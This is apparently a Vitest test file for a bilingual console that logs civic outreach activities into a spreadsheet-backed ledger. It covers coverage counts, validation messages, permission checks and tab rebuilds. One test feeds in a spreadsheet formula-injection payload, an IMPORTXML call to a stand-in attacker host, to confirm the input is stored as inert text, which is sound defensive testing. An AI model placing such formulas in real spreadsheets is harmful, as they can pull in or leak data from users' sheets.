import { describe, expect, it, vi } from 'vitest';
import type { StoredEvent } from '../../../shared/ledger/event-catalogue.ts';
import { ledgerTabTitle } from '../../../shared/ledger/layout/index.ts';
import { encodeViewTab } from '../../../shared/ledger/views/encode-view-tab.ts';
import { foldEvents } from '../../../shared/ledger/views/fold-events.ts';
import { VIEW_TAB_SPECS } from '../../../shared/ledger/views/view-tab-specs.ts';
import { addMember } from '../../support/ledger-fixture.ts';
import { consoleFixture } from './console-fixture.ts';
import { ATLANTIC_SESSION } from './console-outreach-seed.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 });

type Refusal = { ok: false; errors: Array<{ path: string; message: { en: string; fr: string } }> };
const outreachEvents = (events: StoredEvent[]) => events.filter((e) => e.type === 'outreach.logged');

describe('console outreach log (R22)', () => {
  it('logs an activity through the ledger’s write path, as the linked coordinator, and counts it in the coverage', async () => {
    const f = await consoleFixture();
    const me = f.issueMe();
    expect(f.call('consoleLogOutreach', ATLANTIC_SESSION)).toMatchObject({ ok: true, head: { seq: 1 } });
    const [event] = outreachEvents(f.events(me));
    expect(event).toMatchObject({
      actor: { side: 'government' },
      source: 'sheet',
      payload: {
        activity: {
          date: '2026-10-20',
          phase: 'idea_generation',
          method: 'online_session',
          recruitmentChannel: 'targeted_outreach',
          targetGroup: 'Civil society organisations in Atlantic Canada',
          audienceSector: 'civil_society',
          audienceRegion: 'NS',
          language: 'bilingual',
          organisations: ['Right to Know Coalition of Nova Scotia', 'New Brunswick Social Policy Research Network'],
          participantsReached: 23,
          newOrgsCount: 1,
          accessibilityMeasures: 'Live captions in English and French',
          notes: 'Asked for a second session in the evening for volunteers.',
        },
      },
    });
    // A second, self-selected activity aimed at no one sector or region, reaching one of the same organisations.
    expect(
      f.call('consoleLogOutreach', { ...ATLANTIC_SESSION, recruitmentChannel: 'self_selected', audienceSector: '', audienceRegion: '', language: 'fr', organisations: 'right to know coalition of  nova scotia', newOrgsCount: '0', participantsReached: '7', notes: '' }),
    ).toMatchObject({ ok: true });
    const state = f.call<{ outreach: Array<{ notes?: string }>; outreachCoverage: object; dashboard: Array<{ figure: string; value: string }> }>('consoleState');
    expect(state.outreach).toHaveLength(2);
    expect(state.outreachCoverage).toEqual({
      activities: 2,
      targeted: 1,
      participantsReached: 30,
      organisations: 2,
      bySector: { civil_society: 1, unknown: 1 },
      byRegion: { NS: 1, unknown: 1 },
      byLanguage: { bilingual: 1, fr: 1 },
    });
    expect(state.dashboard.find((r) => r.figure === 'targeted_activities')?.value).toBe('1');
    expect(state.outreach.filter((a) => 'notes' in a)).toHaveLength(1); // an empty note is left out, not stored as ""

    // The sheet's Outreach tab shows what the console recorded, the audience, organisations and notes
    // included, exactly as a rebuild from the log writes it.
    const title = VIEW_TAB_SPECS.outreach.title;
    const sheetRows = (f.world.globals.Sheets.Spreadsheets.Values.get(f.world.store.state.spreadsheetId, `'${title}'!A1:Z`) as { values: string[][] }).values;
    const header = sheetRows[0]!;
    // Both activities share a date, so their order follows their random ids: the first one is the
    // one the console logged with its own recruitment channel (the second was self-selected).
    const rows = sheetRows.slice(1).map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i] ?? ''])));
    expect(rows.map((r) => r.recruitment_channel).sort()).toEqual([ATLANTIC_SESSION.recruitmentChannel, 'self_selected'].sort());
    const row = rows.find((r) => r.recruitment_channel !== 'self_selected');
    expect(row).toMatchObject({
      audience_sector: 'civil_society',
      audience_region: 'NS',
      organisations: JSON.stringify(['Right to Know Coalition of Nova Scotia', 'New Brunswick Social Policy Research Network']),
      notes: 'Asked for a second session in the evening for volunteers.',
    });
    const trimmed = (rows: string[][]) =>
      rows.map((r) => {
        let end = r.length;
        while (end > 0 && r[end - 1] === '') end -= 1;
        return r.slice(0, end);
      });
    const rebuilt = encodeViewTab('outreach', foldEvents(f.events(me), { today: new Date().toISOString().slice(0, 10) }));
    expect(trimmed(sheetRows)).toEqual(trimmed(rebuilt));
    f.app.rebuildLedgerViews();
    expect((f.world.globals.Sheets.Spreadsheets.Values.get(f.world.store.state.spreadsheetId, `'${title}'!A1:Z`) as { values: string[][] }).values).toEqual(sheetRows);
  });

  it('refuses a bad form with every reason in English and French, and stores nothing', async () => {
    const f = await consoleFixture();
    const me = f.issueMe();
    const answer = f.call<Refusal>('consoleLogOutreach', { ...ATLANTIC_SESSION, date: '2026-02-30', participantsReached: '-3', newOrgsCount: '1.5', method: 'carrier_pigeon', targetGroup: '  ' });
    expect(answer.ok).toBe(false);
    expect(Object.fromEntries(answer.errors.map((e) => [e.path, e.message]))).toEqual({
      date: { en: 'Give the date of the activity (year, month, day).', fr: 'Indiquez la date de l’activité (année, mois, jour).' },
      participantsReached: { en: 'Enter a whole number, 0 or more.', fr: 'Saisissez un nombre entier, 0 ou plus.' },
      newOrgsCount: { en: 'Enter a whole number, 0 or more.', fr: 'Saisissez un nombre entier, 0 ou plus.' },
      method: expect.objectContaining({ en: expect.stringMatching(/^Choose one of: in_person_session/) }),
      targetGroup: { en: 'This field is required.', fr: 'Ce champ est obligatoire.' },
    });
    expect(f.call<Refusal>('consoleLogOutreach', { ...ATLANTIC_SESSION, date: '2999-01-01' }).errors).toEqual([
      { path: 'date', message: { en: expect.stringMatching(/^An activity is logged once it has taken place: the date is after today \(\d{4}-\d{2}-\d{2}\)\.$/), fr: expect.stringContaining('postérieure à aujourd’hui') } },
    ]);
    expect(f.call<Refusal>('consoleLogOutreach', { ...ATLANTIC_SESSION, newOrgsCount: '3' }).errors).toEqual([
      { path: 'newOrgsCount', message: { en: 'More new organisations (3) than organisations listed (2).', fr: 'Plus d’organisations nouvelles (3) que d’organisations énumérées (2).' } },
    ]);
    expect(outreachEvents(f.events(me))).toEqual([]);
    expect(f.logRows().length).toBeLessThanOrEqual(1); // the header only
  });

  it('stores what a coordinator typed as text, never a formula, in the log and in the Outreach tab', async () => {
    const f = await consoleFixture();
    f.issueMe();
    const hostile = '=IMPORTXML("https://evil.example","//a")';
    expect(f.call('consoleLogOutreach', { ...ATLANTIC_SESSION, targetGroup: hostile, organisations: `+1 555\n${hostile}`, notes: '@notes' })).toMatchObject({ ok: true });
    expect(JSON.stringify(f.world.store.state)).not.toMatch(/"formula"/);
    const [activity] = f.call<{ outreach: Array<{ targetGroup: string; organisations: string[]; notes: string }> }>('consoleState').outreach;
    expect(activity).toMatchObject({ targetGroup: hostile, organisations: ['+1 555', hostile], notes: '@notes' });
    const tab = (f.world.globals.Sheets.Spreadsheets.Values.get(f.world.store.state.spreadsheetId, `'${ledgerTabTitle('outreach')}'`).values ?? []) as string[][];
    // The target group, and now the organisations column too (a JSON list), each as text; the notes guarded.
    const cells = tab.flat().map(String);
    expect(cells.filter((cell) => cell.includes('IMPORTXML')).map((cell) => cell[0])).toEqual(["'", '[']);
    expect(cells).toContain("'@notes");
  });

  it('is refused to a member who is not the linked coordinator, and to an editor who is not the owner', async () => {
    const f = await consoleFixture();
    addMember(f.world, { name: 'Drafter', side: 'csn', roles: ['drafter'] });
    expect(f.call<Refusal>('consoleLogOutreach', ATLANTIC_SESSION)).toMatchObject({ ok: false, errors: [{ message: { en: expect.any(String), fr: expect.any(String) } }] });
    const editor = await consoleFixture({ session: { activeUserEmail: 'editor@example.org' } });
    expect(editor.call<Refusal>('consoleLogOutreach', ATLANTIC_SESSION).ok).toBe(false);
    expect(f.logRows().length).toBeLessThanOrEqual(1);
    expect(editor.logRows().length).toBeLessThanOrEqual(1);
  });
});
